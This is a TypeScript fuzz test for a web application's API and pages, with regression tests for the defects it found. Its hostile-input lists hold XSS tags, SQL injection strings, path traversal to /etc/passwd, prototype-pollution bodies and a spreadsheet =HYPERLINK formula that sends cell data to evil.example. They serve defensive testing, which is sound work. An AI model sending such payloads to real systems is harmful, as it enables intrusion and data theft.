/**
 * Issue 13, part 3: hostile input. A fuzz test driven by the OpenAPI document: every
 * documented operation is called with values drawn from its own schema and with hostile
 * ones (wrong types, 1 MB strings, NUL, lone surrogates, bidi overrides, deep nesting,
 * huge and negative numbers, SQL, HTML and formula text, path traversal in ids and
 * slugs), by an anonymous client, a focal point and the secretariat; the pages and their
 * forms get the same. Whatever is sent: never a 5xx, never our HTML echoed unescaped in a
 * page, and a refused write leaves every table's row count and the audit log as they were.
 *
 * The draw is seeded (IIF_FUZZ_SEED, 13 by default), so a failure is replayed by its seed;
 * the test prints how many requests it tried.
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, it } from "node:test";
import { sql } from "kysely";
import { cliActor } from "../../src/lib/actor.ts";
import { ImportService } from "../../src/modules/activities/import.service.ts";
import { describeEachDialect, type TestContext } from "../helpers/app.ts";
import { commitmentDraft, requirementInput } from "../helpers/records.ts";
import { recordTables, rowCounts } from "../helpers/rows.ts";
import { call, type Person, person } from "../helpers/users.ts";

// Budgets of writes and comments far above what the fuzzer sends, so that writes reach
// their services instead of stopping at the rate limit (read when the services are built).
process.env.IIF_WRITE_RATE = "1000000/600";
process.env.IIF_COMMENT_RATE = "1000000/600";

const seed = Number(process.env.IIF_FUZZ_SEED ?? 13);

/** mulberry32: a small seeded generator, the same draws on every machine. */
function generator(s: number) {
	let a = s >>> 0;
	const next = () => {
		a = (a + 0x6d2b79f5) >>> 0;
		let t = a;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
	return {
		next,
		chance: (p: number) => next() < p,
		int: (lo: number, hi: number) => lo + Math.floor(next() * (hi - lo + 1)),
		pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)] as T,
	};
}
type Rng = ReturnType<typeof generator>;

/** What a page must never contain: the tags the fuzzer sends, unescaped. */
const markers = ["<x-fuzz", "<script>alert", "<img src=x"];

const megabyte = "A".repeat(1_000_000);
const hostileTexts: readonly string[] = [
	"",
	" ",
	"\u0000",
	"a\u0000b",
	"\uD800",
	"x\uDFFFy",
	"\u202Eevil\u202C",
	"\u2066rtl\u2069 \u200F",
	"\uFEFFbom",
	"😀🏳️‍🌈",
	'<x-fuzz id="1">',
	'"><x-fuzz>',
	"'><x-fuzz onmouseover=alert(1)>",
	"<script>alert(1)</script>",
	'<img src=x onerror="alert(1)">',
	"]]><x-fuzz/><![CDATA[",
	"&lt;x-fuzz&gt; &amp; &#0; &#x1F;",
	"'; DROP TABLE commitment; --",
	"' OR '1'='1",
	"1) OR (1=1",
	"%",
	"_%_",
	"\\",
	'=HYPERLINK("https://evil.example/?"&A1,"x")',
	"+1+1",
	"-2+3",
	"@SUM(A1)",
	"\t=1",
	"../../../../etc/passwd",
	"..\\..\\windows\\win.ini",
	"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
	"....//....//etc",
	"null",
	"undefined",
	"NaN",
	"Infinity",
	"-0",
	"1e309",
	"9007199254740993",
	"-9223372036854775809",
	"99999999999999999999999999999",
	"0x1F",
	"1.5",
	"-1",
	"0",
	"constructor",
	"__proto__",
	"2015-02-30",
	"0000-00-00",
	"9999-12-31T99:99:99Z",
	"a".repeat(201),
	"é".repeat(5001),
];

function hostileText(rng: Rng): string {
	return rng.chance(0.02) ? megabyte : rng.pick(hostileTexts);
}

function nested(depth: number): unknown {
	let v: unknown = "deep";
	for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
	return v;
}

/** A value of any JSON type, most of them hostile to whatever the field expects. */
function hostileValue(rng: Rng): unknown {
	switch (rng.int(0, 9)) {
		case 0:
			return rng.pick([0, -1, 1.5, -1e308, 1e308, 2 ** 53 + 2, -(2 ** 63), 2 ** 64, 1e-300]);
		case 1:
			return rng.pick([true, false, null]);
		case 2:
			return rng.pick([[], {}, [hostileText(rng)], { value: hostileText(rng) }]);
		case 3:
			return nested(rng.pick([5, 40, 200]));
		default:
			return hostileText(rng);
	}
}

/** Whole bodies sent as raw text: not JSON, JSON that is no object, prototype pollution, nesting past any limit. */
const rawBodies: readonly string[] = [
	"",
	"{",
	"null",
	"[]",
	'"text"',
	"42",
	'{"__proto__":{"role":"admin"}}',
	'{"constructor":{"prototype":{"role":"admin"}}}',
	`{"a":${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
	`${"[".repeat(400_000)}${"]".repeat(400_000)}`,
	`{"title":"${"\\ud800".repeat(1000)}"}`,
];

/** Header values are Latin-1 on the wire: hostile text as its UTF-8 bytes read as Latin-1. */
const headerText = (rng: Rng) =>
	Buffer.from(
		hostileText(rng)
			.slice(0, 2000)
			.replace(/[\r\n\0]/g, ""),
		"utf8",
	).toString("latin1");

/** Headers a client controls: language, caches, and credentials that are not what they seem. */
function hostileHeaders(rng: Rng, who: Person | null): Record<string, string> {
	const h: Record<string, string> = {};
	if (rng.chance(0.5)) h["accept-language"] = headerText(rng);
	if (rng.chance(0.3)) h["if-none-match"] = headerText(rng);
	if (rng.chance(0.3))
		h.cookie = `${who?.headers.cookie ?? "iif_session=x"}; iif_lang=${headerText(rng)}`;
	if (rng.chance(0.2)) h["x-csrf-token"] = headerText(rng);
	if (rng.chance(0.2)) h.authorization = `Bearer ${headerText(rng)}`;
	if (rng.chance(0.1)) h["x-forwarded-for"] = headerText(rng);
	return h;
}

// ---------------------------------------------------------------------------------------
// The OpenAPI document, read as the fuzzer needs it.

type Schema = Record<string, any>;
interface Operation {
	method: "GET" | "POST" | "PATCH" | "PUT" | "DELETE";
	path: string;
	params: { name: string; in: "path" | "query"; schema: Schema }[];
	body: Schema | null;
	secured: boolean;
}

function operationsOf(doc: any): Operation[] {
	const ops: Operation[] = [];
	for (const [path, item] of Object.entries<any>(doc.paths))
		for (const [method, op] of Object.entries<any>(item))
			ops.push({
				method: method.toUpperCase() as Operation["method"],
				path,
				params: op.parameters ?? [],
				body: op.requestBody?.content?.["application/json"]?.schema ?? null,
				secured: Boolean(op.security?.length),
			});
	return ops;
}

function resolve(doc: any, schema: Schema | undefined): Schema {
	let s = schema ?? {};
	for (let i = 0; s.$ref && i < 10; i++)
		s =
			s.$ref
				.split("/")
				.slice(1)
				.reduce((o: any, k: string) => o?.[k], doc) ?? {};
	return s;
}

/** A value the schema accepts, as far as its type, enum, range and example tell. */
function sample(doc: any, schema: Schema | undefined, rng: Rng, depth = 0): unknown {
	const s = resolve(doc, schema);
	const branches = s.anyOf ?? s.oneOf;
	if (branches) return sample(doc, rng.pick(branches), rng, depth);
	if (s.const !== undefined) return s.const;
	if (s.enum) return rng.pick(s.enum);
	if (s.example !== undefined && rng.chance(0.7)) return s.example;
	const type = Array.isArray(s.type) ? rng.pick(s.type) : s.type;
	switch (type) {
		case "integer":
		case "number": {
			const lo = s.minimum ?? (s.exclusiveMinimum ?? 0) + 1;
			const hi = Math.min(s.maximum ?? lo + 100, lo + 1000);
			return rng.int(lo, hi);
		}
		case "boolean":
			return rng.chance(0.5);
		case "null":
			return null;
		case "array":
			return depth > 3
				? []
				: Array.from({ length: rng.int(0, 2) }, () => sample(doc, s.items, rng, depth + 1));
		case "object": {
			const out: Record<string, unknown> = {};
			for (const [k, v] of Object.entries<Schema>(s.properties ?? {}))
				if (s.required?.includes(k) || rng.chance(0.5)) out[k] = sample(doc, v, rng, depth + 1);
			return out;
		}
		default:
			if (s.format === "date") return "2015-06-30";
			if (s.format === "uri") return "https://example.org/fuzz";
			return rng.pick(["Fuzz text of a decent length", "fuzz-slug", "2015-06-30", "GB"]);
	}
}

/** A body from the schema, some fields hostile, sometimes an unknown one, sometimes no object at all. */
function bodyFor(doc: any, op: Operation, rng: Rng): string {
	if (rng.chance(0.1)) return rng.pick(rawBodies);
	const fields = (op.body ? sample(doc, op.body, rng) : {}) as Record<string, unknown>;
	const names = Object.keys(resolve(doc, op.body ?? {}).properties ?? {});
	for (const name of names) if (rng.chance(0.3)) fields[name] = hostileValue(rng);
	if (rng.chance(0.1)) fields[hostileText(rng).slice(0, 50) || "extra"] = hostileValue(rng);
	return JSON.stringify(fields);
}

/** Text for a URL: a lone surrogate, which encodeURIComponent refuses, goes as its UTF-8-like bytes. */
function encode(value: string): string {
	try {
		return encodeURIComponent(value);
	} catch {
		return "%ED%A0%80";
	}
}

function queryFor(doc: any, op: Operation, rng: Rng): string {
	const parts: string[] = [];
	for (const p of op.params.filter((x) => x.in === "query")) {
		if (!rng.chance(0.4)) continue;
		const schema = resolve(doc, p.schema);
		const count = schema.type === "array" ? rng.int(1, 3) : rng.chance(0.05) ? 2 : 1;
		for (let i = 0; i < count; i++) {
			const value = rng.chance(0.5)
				? String(sample(doc, schema.type === "array" ? schema.items : schema, rng))
				: hostileText(rng);
			parts.push(`${p.name}=${encode(value)}`);
		}
	}
	if (rng.chance(0.1)) parts.push(`${encode(hostileText(rng).slice(0, 30) || "x")}=1`);
	return parts.length ? `?${parts.join("&")}` : "";
}

// ---------------------------------------------------------------------------------------
// The records that exist, so that some requests reach past the lookup into the service.

interface Known {
	[resource: string]: string[];
}

async function knownValues(ctx: TestContext, victim: number): Promise<Known> {
	const db = ctx.db.database.db;
	const ids = async (table: string, column = "id", n = 4) =>
		(
			await sql<{
				v: string | number;
			}>`select ${sql.ref(column)} as v from ${sql.table(table)} order by 1 limit ${n}`.execute(db)
		).rows.map((r) => String(r.v));
	return {
		commitments: [...(await ids("commitment", "slug")), ...(await ids("commitment"))],
		comments: await ids("comment"),
		reports: await ids("progress_report"),
		proposals: await ids("commitment_proposal"),
		assessments: await ids("assessment"),
		stakeholders: await ids("stakeholder", "slug"),
		forums: await ids("forum", "slug"),
		requirements: await ids("requirement", "slug"),
		activities: await ids("activity", "iati_identifier"),
		// Only a user made for the purpose: a role changed by chance must not be a fuzzing client's.
		users: [String(victim)],
		tokens: ["1"],
		countries: ["GB", "KE", "gb"],
		frameworks: ["mdg", "sdg"],
		codelists: ["Country", "Currency", "Sector"],
		providers: ["GB", "FR"],
	};
}

const hostileIds: readonly string[] = [
	"0",
	"-1",
	"1.5",
	"99999999999999999999",
	"..",
	"..%2F..%2Fetc%2Fpasswd",
	"%2e%2e%2f",
	"%00",
	"%ED%A0%80",
	"%E2%80%AEslug",
	"%3Cx-fuzz%3E",
	"%27%20OR%201%3D1",
	"constructor",
	"__proto__",
	"Not_A_Slug",
	"a".repeat(201),
];

function pathFor(op: Operation, known: Known, rng: Rng): string {
	return op.path.replace(/\{([^}]+)\}/g, (_, name: string) => {
		if (rng.chance(0.4)) return rng.pick(hostileIds);
		const before = op.path.split(`{${name}}`)[0]?.split("/").filter(Boolean).pop() ?? "";
		const resource = name === "stakeholder" ? "stakeholders" : before;
		const pool = known[resource] ?? [];
		return pool.length ? encode(rng.pick(pool)) : rng.pick(hostileIds);
	});
}

// ---------------------------------------------------------------------------------------
// Pages and their forms, which the OpenAPI document does not list.

const pageGets: readonly string[] = [
	"/",
	"/commitments",
	"/commitments/:commitments",
	"/stakeholders",
	"/stakeholders/:stakeholders",
	"/forums",
	"/forums/:forums",
	"/countries",
	"/countries/:countries",
	"/goals",
	"/goals/:goal",
	"/goals/:goal/themes/:theme",
	"/targets/:target",
	"/activities",
	"/activities/:activities",
	"/map",
	"/about",
	"/methodology",
	"/sign-in",
	"/register",
	"/workspace",
	"/workspace/queue",
	"/workspace/moderation",
	"/workspace/proposals",
	"/workspace/commitments/new",
	"/workspace/commitments/:commitments/edit",
	"/workspace/commitments/:commitments/assess",
	"/workspace/commitments/:commitments/reports/new",
	"/workspace/commitments/:commitments/reports/:reports/edit",
	"/workspace/commitments/:commitments/reports/:reports/withdraw",
];
/** What is served outside the language prefix: feeds, assets, health, the API's own pages. */
const plainGets: readonly string[] = [
	"/feeds/all.atom",
	"/feeds/commitments/:commitments.atom",
	"/feeds/stakeholders/:stakeholders.atom",
	"/feeds/goals/:goal.atom",
	"/feeds/countries/:countries.atom",
	"/assets/:asset",
	"/healthz",
	"/api/docs",
];

const pagePosts: readonly string[] = [
	"/commitments/:commitments/comments",
	"/comments/:comments/flag",
	"/comments/:comments/hide",
	"/workspace/commitments/new",
	"/workspace/commitments/:commitments/edit",
	"/workspace/commitments/:commitments/assess",
	"/workspace/commitments/:commitments/reports/new",
	"/workspace/commitments/:commitments/transition",
	"/workspace/moderation/:comments/hide",
	"/workspace/proposals/:proposals/reject",
];
const pageQueryNames = [
	"q",
	"page",
	"goal",
	"target",
	"status",
	"delivery",
	"sort",
	"kind",
	"recipient",
	"stakeholder",
	"year_from",
	"lang",
	"view",
];
const formFieldNames = [
	"title",
	"text",
	"body",
	"reason",
	"kind",
	"slug",
	"forum",
	"makers",
	"goals",
	"targets",
	"amount",
	"currency",
	"period_start",
	"period_end",
	"narrative",
	"score",
	"scheme",
	"action",
	"version",
	"parent",
	"evidence_url",
];

function pagePath(template: string, known: Known, rng: Rng): string {
	const lang = rng.chance(0.9)
		? rng.pick(["en", "fr", "ar"])
		: rng.pick(["xx", "..", "%3Cx-fuzz%3E"]);
	const fill: Record<string, () => string> = {
		goal: () => rng.pick(["mdg-8", "sdg-17", "8", "mdg:8"]),
		theme: () => rng.pick(["health", "finance"]),
		target: () => rng.pick(["mdg-8.b", "sdg-17.2", "8.B"]),
	};
	const path = template.replace(/:([a-z]+)/g, (_, name: string) => {
		if (rng.chance(0.4)) return rng.pick(hostileIds);
		const pool = known[name];
		return pool?.length ? encode(rng.pick(pool)) : (fill[name]?.() ?? rng.pick(hostileIds));
	});
	return `/${lang}${path === "/" ? "" : path}`;
}

function plainPath(template: string, known: Known, rng: Rng): string {
	return template.replace(/:([a-z]+)/g, (_, name: string) => {
		if (rng.chance(0.5)) return rng.pick(hostileIds);
		if (name === "asset") return rng.pick(["site.css", "explorer.js", "..%2Fsite.css"]);
		if (name === "goal") return rng.pick(["mdg-8", "sdg:17"]);
		const pool = known[name];
		return pool?.length ? encode(rng.pick(pool)) : rng.pick(hostileIds);
	});
}

function pageQuery(rng: Rng): string {
	const parts: string[] = [];
	for (const name of pageQueryNames)
		if (rng.chance(0.25)) parts.push(`${name}=${encode(hostileText(rng))}`);
	return parts.length ? `?${parts.join("&")}` : "";
}

/** The fields a form page offers, with the values it fills in: decoded from its HTML. */
function formFields(html: string): [string, string][] {
	const decode = (v: string) =>
		v
			.replace(/&lt;/g, "<")
			.replace(/&gt;/g, ">")
			.replace(/&quot;/g, '"')
			.replace(/&#39;/g, "'")
			.replace(/&amp;/g, "&");
	const fields: [string, string][] = [];
	for (const [tag] of html.matchAll(/<(?:input|textarea|select)\b[^>]*>/g)) {
		const name = /\bname="([^"]*)"/.exec(tag)?.[1];
		if (!name || name === "_csrf" || /type="(?:submit|checkbox|radio)"/.test(tag)) continue;
		fields.push([decode(name), decode(/\bvalue="([^"]*)"/.exec(tag)?.[1] ?? "")]);
	}
	return fields;
}

/**
 * A form post: half the time the form as its page fills it in, so that some posts get
 * past the first check; then hostile values in some of its fields and in names it does
 * not have.
 */
function formBody(rng: Rng, csrf: string | undefined, offered: [string, string][]): string {
	const form = new URLSearchParams();
	if (csrf && rng.chance(0.95)) form.append("_csrf", csrf);
	const base = rng.chance(0.5) ? offered : [];
	const names = new Set([...offered.map(([n]) => n), ...formFieldNames]);
	const hostile = new Map<string, string>();
	for (const name of names) if (rng.chance(0.15)) hostile.set(name, hostileText(rng));
	for (const [name, value] of base) if (!hostile.has(name)) form.append(name, value);
	for (const [name, value] of hostile) form.append(name, value);
	return form.toString();
}

// ---------------------------------------------------------------------------------------

interface Tally {
	requests: number;
	refusedWrites: number;
	byStatus: Map<number, number>;
	failures: string[];
}

describeEachDialect("fuzz: hostile input to every documented operation and page", (ctx) => {
	it("never answers 5xx, never echoes HTML unescaped in a page, and a refused write changes nothing", async () => {
		const c = ctx();
		const rng = generator(seed);
		const doc = (await c.get("/api/openapi.json")).body;
		const operations = operationsOf(doc);
		assert.ok(operations.length > 50, `the OpenAPI document lists ${operations.length} operations`);
		const victim = await person(c, {});
		const clients: [string, Person | null][] = [
			["anonymous", null],
			[
				"focal point",
				await person(c, {
					memberships: [{ stakeholder: "united-kingdom", role: "focal_point" }],
				}),
			],
			["secretariat", await person(c, { role: "secretariat" })],
		];
		const known = await knownValues(c, victim.id as number);
		const tables = await recordTables(c);
		assert.ok(tables.includes("audit_event") && tables.includes("commitment"), tables.join());
		// The check sees a write: an accepted one changes the counts it compares.
		const counted = JSON.stringify(await rowCounts(c, tables));
		const token = await call(c, clients[2]?.[1] as Person, "POST", "/api/v1/tokens", { name: "x" });
		assert.equal(token.status, 201);
		assert.notEqual(JSON.stringify(await rowCounts(c, tables)), counted);
		const tally: Tally = { requests: 0, refusedWrites: 0, byStatus: new Map(), failures: [] };

		const send = async (
			label: string,
			method: Operation["method"],
			url: string,
			who: Person | null,
			body?: { payload: string; type: string },
			html = false,
		) => {
			const write = method !== "GET";
			const before = write ? JSON.stringify(await rowCounts(c, tables)) : "";
			let res: Awaited<ReturnType<typeof c.app.inject>>;
			try {
				res = await c.app.inject({
					method,
					url,
					headers: {
						...(who?.headers ?? {}),
						accept: html ? "text/html" : "application/json",
						...(body ? { "content-type": body.type } : {}),
						...(rng.chance(0.1) ? hostileHeaders(rng, who) : {}),
					},
					...(body ? { payload: body.payload } : {}),
				});
			} catch (e) {
				tally.failures.push(`${label} ${method} ${url.slice(0, 200)}: inject threw ${e}`);
				return;
			}
			tally.requests++;
			tally.byStatus.set(res.statusCode, (tally.byStatus.get(res.statusCode) ?? 0) + 1);
			const what = `${label} ${method} ${url.slice(0, 200)} ${body?.payload.slice(0, 200) ?? ""}`;
			if (res.statusCode >= 500)
				tally.failures.push(`${what}: ${res.statusCode} ${res.body.slice(0, 300)}`);
			const type = String(res.headers["content-type"] ?? "");
			// Every refusal of the API is an RFC 9457 problem, whatever refused it.
			if (
				url.startsWith("/api/") &&
				res.statusCode >= 400 &&
				!type.startsWith("application/problem+json")
			)
				tally.failures.push(`${what}: ${res.statusCode} answered as ${type}, not a problem`);
			if (/html|xml/.test(type)) {
				const echoed = markers.find((m) => res.body.includes(m));
				if (echoed) tally.failures.push(`${what}: the ${type} answer holds ${echoed} unescaped`);
			}
			// Signed out, only registering writes anything, whatever the answer (a form's 303 included).
			const anonymousWrite = !who && url.split("?")[0] === "/api/v1/users";
			if (write && (res.statusCode >= 400 || (!who && !anonymousWrite))) {
				tally.refusedWrites++;
				const after = JSON.stringify(await rowCounts(c, tables));
				if (after !== before)
					tally.failures.push(`${what}: refused with ${res.statusCode} but rows changed`);
			}
		};

		for (const op of operations) {
			const write = op.method !== "GET";
			// A signed-in client that signs itself out would fuzz the rest anonymously.
			const signOut = op.method === "DELETE" && op.path === "/api/v1/session";
			for (const [name, who] of clients) {
				if (signOut && who) continue;
				const rounds = write ? 14 : who ? 4 : 16;
				for (let i = 0; i < rounds; i++) {
					const url = `${pathFor(op, known, rng)}${queryFor(doc, op, rng)}`;
					const type = rng.chance(0.05)
						? rng.pick(["text/plain", "application/xml", "application/x-www-form-urlencoded"])
						: "application/json";
					const body =
						write && op.method !== "DELETE" ? { payload: bodyFor(doc, op, rng), type } : undefined;
					await send(name, op.method, url, who, body);
				}
			}
		}
		for (const template of pageGets)
			for (const [name, who] of clients)
				for (let i = 0; i < (who ? 3 : 6); i++)
					await send(
						name,
						"GET",
						`${pagePath(template, known, rng)}${pageQuery(rng)}`,
						who,
						undefined,
						true,
					);
		for (const template of plainGets)
			for (let i = 0; i < 6; i++)
				await send(
					"anonymous",
					"GET",
					`${plainPath(template, known, rng)}${pageQuery(rng)}`,
					null,
					undefined,
					rng.chance(0.5),
				);
		// Each form's fields as its page offers them, read by someone who may use them all.
		const editor = await person(c, {
			role: "secretariat",
			memberships: [{ stakeholder: "united-kingdom", role: "focal_point" }],
		});
		const formOf = async (template: string) => {
			const page = template.endsWith("/comments")
				? template.replace(/\/comments$/, "")
				: template.replace(/\/(transition|hide|flag|reject)$/, "");
			const url = `/en${page.replace(/:commitments/, "united-kingdom-gavi-2011").replace(/:[a-z]+/g, "1")}`;
			const res = await c.app.inject({
				method: "GET",
				url,
				headers: { ...editor.headers, accept: "text/html" },
			});
			return formFields(res.body);
		};
		for (const template of pagePosts) {
			const offered = await formOf(template);
			for (const [name, who] of clients)
				for (let i = 0; i < 8; i++)
					await send(
						name,
						"POST",
						pagePath(template, known, rng),
						who,
						{
							payload: formBody(rng, who?.headers["x-csrf-token"], offered),
							type: "application/x-www-form-urlencoded",
						},
						true,
					);
		}

		const statuses = [...tally.byStatus].sort(([a], [b]) => a - b).map(([s, n]) => `${s}:${n}`);
		console.log(
			`fuzz [${c.dialect}]: ${tally.requests} requests over ${operations.length} operations and ${pageGets.length + pagePosts.length + plainGets.length} pages, feeds and assets, seed ${seed}; ${tally.refusedWrites} refused writes checked; statuses ${statuses.join(" ")}`,
		);
		assert.deepEqual(tally.failures.slice(0, 20), [], `${tally.failures.length} failures`);
		assert.ok(tally.requests > 2000, `${tally.requests} requests`);
		assert.ok(tally.refusedWrites > 500, `${tally.refusedWrites} refused writes`);
	});

	// Defects the fuzzer found, each pinned by a test of its own.

	it("refuses a body nested past 32 levels with a 400 naming the field, not a 500 (stack overflow)", async () => {
		const c = ctx();
		const secretariat = await person(c, { role: "secretariat" });
		const audits = await c.services.audit.count();
		const deep = (n: number) => `${"[".repeat(n)}${"]".repeat(n)}`;
		for (const [payload, name] of [
			[`{"title":${deep(5_000)}}`, "title"],
			[`{"title":"ok","text":${'{"a":'.repeat(40_000)}1${"}".repeat(40_000)}}`, "text"],
			[deep(400_000), "body"],
		] as const) {
			const res = await c.app.inject({
				method: "POST",
				url: "/api/v1/commitments",
				headers: { ...secretariat.headers, "content-type": "application/json" },
				payload,
			});
			assert.equal(res.statusCode, 400, res.body.slice(0, 300));
			assert.deepEqual(
				res.json().errors.map((e: { name: string }) => e.name),
				[name],
			);
			assert.match(res.json().detail, /nested more than 32 levels deep/);
		}
		// What forms and APIs really send is not refused: a report's evidence, three levels.
		const shallow = await c.app.inject({
			method: "POST",
			url: "/api/v1/commitments",
			headers: { ...secretariat.headers, "content-type": "application/json" },
			payload: JSON.stringify({ title: "x", sources: [{ title: { a: ["b"] } }] }),
		});
		assert.equal(shallow.statusCode, 400);
		assert.doesNotMatch(shallow.body, /nested more than/);
		assert.equal(await c.services.audit.count(), audits);
	});

	it("refuses a lone surrogate in any field or key with a 400 naming it: it cannot be stored as written", async () => {
		// SQLite kept it as invalid UTF-8 (read back as three U+FFFD), PostgreSQL as one U+FFFD.
		const c = ctx();
		const focal = await person(c, {
			memberships: [{ stakeholder: "united-kingdom", role: "focal_point" }],
		});
		const audits = await c.services.audit.count();
		const report = {
			kind: "maker",
			stakeholder: "united-kingdom",
			period_start: "2012-01-01",
			period_end: "2012-12-31",
			policy_status: "in_progress",
			narrative: "Paid",
		};
		for (const [payload, name] of [
			[{ ...report, narrative: "Paid \uD800 in full" }, "narrative"],
			[
				{ ...report, evidence: [{ title: "x\uDC00", url: "https://example.org/" }] },
				"evidence.0.title",
			],
			[{ ...report, "key\uD800": 1 }, "key\\uD800"],
		] as const) {
			const res = await call(
				c,
				focal,
				"POST",
				"/api/v1/commitments/united-kingdom-gavi-2011/reports",
				payload,
			);
			assert.equal(res.status, 400, JSON.stringify(res.body));
			assert.deepEqual(
				res.body.errors.map((e: { name: string }) => e.name),
				[name],
			);
			assert.match(res.body.detail, /lone surrogate/);
		}
		// A pair is a character (an emoji), and welcome.
		const ok = await call(
			c,
			focal,
			"POST",
			"/api/v1/commitments/united-kingdom-gavi-2011/reports",
			{
				...report,
				narrative: "Paid in full 😀",
			},
		);
		assert.equal(ok.status, 201, JSON.stringify(ok.body));
		assert.equal((await c.get(`/api/v1/reports/${ok.body.id}`)).body.narrative, "Paid in full 😀");
		assert.equal(await c.services.audit.count(), audits + 1);
	});

	it("refuses a negative commitment amount, as reports and requirements refuse theirs, writing nothing", async () => {
		// "-1000" was stored as -100000 minor units: a pledge that took money off every total.
		const c = ctx();
		const focal = await person(c, {
			memberships: [{ stakeholder: "united-kingdom", role: "focal_point" }],
		});
		const audits = await c.services.audit.count();
		for (const amount of ["-1000", "-0.01", " -5"]) {
			const res = await call(c, focal, "POST", "/api/v1/commitments", {
				...commitmentDraft,
				financial: { ...commitmentDraft.financial, amount },
			});
			assert.equal(res.status, 400, `${amount}: ${JSON.stringify(res.body)}`);
			assert.deepEqual(
				res.body.errors.map((e: { name: string }) => e.name),
				["financial.amount"],
			);
			assert.match(res.body.detail, /must not be negative/);
		}
		assert.equal(await c.services.audit.count(), audits);
		const draft = await call(c, focal, "POST", "/api/v1/commitments", commitmentDraft);
		assert.equal(draft.status, 201, JSON.stringify(draft.body));
		const change = await call(c, focal, "PATCH", `/api/v1/commitments/${draft.body.slug}`, {
			version: 1,
			changes: { financial: { ...commitmentDraft.financial, amount: "-20000000" } },
		});
		assert.equal(change.status, 400, JSON.stringify(change.body));
		const stored = await call(c, focal, "GET", `/api/v1/commitments/${draft.body.slug}`);
		assert.equal(stored.body.financial.amount_minor, 2_000_000_000);
	});

	it("keeps serving every page and total once a pledge too large to sum exactly is published", async () => {
		// GBP 9 trillion a year for 101 years is 1.2e17 US cents: the totals read it with toInt
		// and the home page, a stakeholder's page and the delivery analytics answered 500 to all.
		const c = ctx();
		const focal = await person(c, {
			memberships: [{ stakeholder: "united-kingdom", role: "focal_point" }],
		});
		const secretariat = await person(c, { role: "secretariat" });
		const huge = await call(c, focal, "POST", "/api/v1/commitments", {
			...commitmentDraft,
			title: "A pledge too large to sum exactly",
			financial: {
				...commitmentDraft.financial,
				amount: "8999999999999",
				frequency: "annual",
				period_start: "2000-01-01",
				period_end: "2100-12-31",
			},
		});
		assert.equal(huge.status, 201, JSON.stringify(huge.body));
		const url = `/api/v1/commitments/${huge.body.slug}`;
		assert.equal((await call(c, focal, "POST", `${url}/submit`, {})).status, 200);
		assert.equal((await call(c, secretariat, "POST", `${url}/publish`, {})).status, 200);
		for (const page of [
			"/api/v1/analytics/delivery?group_by=stakeholder",
			"/api/v1/analytics/delivery?group_by=goal&format=csv",
			"/api/v1/analytics/delivery?group_by=year",
			"/api/v1/analytics/delivery?group_by=stakeholder&stakeholder=united-kingdom",
			`${url}/delivery`,
			"/en/",
			"/en/stakeholders/united-kingdom",
			"/en/commitments?sort=-committed_usd",
			"/api/v1/commitments?format=csv",
			"/api/v1/analytics/flags",
			`/en/commitments/${huge.body.slug}`,
		]) {
			const res = await c.app.inject({
				method: "GET",
				url: page,
				headers: { accept: "text/html" },
			});
			assert.equal(res.statusCode, 200, `${page}: ${res.body.slice(0, 300)}`);
		}
		const totals = await c.get(
			"/api/v1/analytics/delivery?group_by=stakeholder&stakeholder=united-kingdom",
		);
		// Converted money past 2^53 cents reads as its nearest double, as it does elsewhere.
		assert.ok(Number(totals.body.total.committed) > 1e15, JSON.stringify(totals.body.total));
	});

	it("keeps serving a requirement and an IATI activity whose US dollar value passes 2^53 cents", async () => {
		// Each read its converted money with toInt: the requirement's creation answered 500
		// (after writing it, in a transaction rolled back), the activity's pages 500 for good.
		const c = ctx();
		const secretariat = await person(c, { role: "secretariat" });
		const slug = `requirement-past-exact-${c.dialect}`;
		const created = await call(
			c,
			secretariat,
			"POST",
			"/api/v1/requirements",
			requirementInput(slug, {
				amount: "9999999999999",
				frequency: "annual",
				period_start: "1990-01-01",
				period_end: "2100-12-31",
				source_title: "A hostile estimate",
			}),
		);
		assert.equal(created.status, 201, JSON.stringify(created.body));
		const dir = mkdtempSync(join(tmpdir(), "iif-fuzz-huge-"));
		after(() => rmSync(dir, { recursive: true, force: true }));
		const file = join(dir, "huge.xml");
		// GBP 80 trillion: 8e15 pence, exact; about 1e16 US cents, past 2^53.
		writeFileSync(
			file,
			`<iati-activities version="2.03"><iati-activity default-currency="GBP"><iati-identifier>XM-HUGE-${c.dialect}</iati-identifier><reporting-org ref="XM-HUGE" type="10"><narrative>Huge</narrative></reporting-org><title><narrative>Huge</narrative></title><transaction><transaction-type code="3"/><transaction-date iso-date="2020-05-01"/><value value-date="2020-05-01">80000000000000</value></transaction></iati-activity></iati-activities>`,
		);
		const imported = await new ImportService(c.db.database).importFiles([file], cliActor);
		assert.deepEqual(imported.failed, []);
		assert.equal(imported.activities, 1, JSON.stringify(imported.rejected));
		for (const url of [
			`/api/v1/requirements/${slug}`,
			"/api/v1/requirements?format=csv",
			`/api/v1/activities/XM-HUGE-${c.dialect}`,
			"/api/v1/activities?reporting_org=XM-HUGE",
			`/api/v1/transactions?activity=XM-HUGE-${c.dialect}`,
			`/api/v1/transactions?format=csv&activity=XM-HUGE-${c.dialect}`,
			"/api/v1/export/iati.xml?reporting_org=XM-HUGE",
			`/en/activities/XM-HUGE-${c.dialect}`,
		]) {
			const res = await c.app.inject({ method: "GET", url, headers: { accept: "text/html" } });
			assert.equal(res.statusCode, 200, `${url}: ${res.body.slice(0, 300)}`);
		}
		const t = await c.get(`/api/v1/transactions?activity=XM-HUGE-${c.dialect}`);
		assert.equal(t.body.items[0].usd_current, "102564158225256.64");
	});

	it("answers a path whose percent escapes are no UTF-8, or with a part too long, as a problem naming the path, in the API and the pages", async () => {
		const c = ctx();
		for (const url of [
			"/api/v1/commitments/%ZZ",
			"/api/v1/commitments/%ED%A0%80",
			"/api/v1/stakeholders/%C0",
			`/api/v1/commitments/${"a".repeat(201)}`,
		]) {
			const res = await c.get(url);
			assert.equal(res.status, 400, url);
			assert.match(String(res.headers["content-type"]), /^application\/problem\+json/, url);
			assert.equal(res.body.code, "invalid_input", url);
			assert.deepEqual(
				res.body.errors.map((e: { name: string }) => e.name),
				["path"],
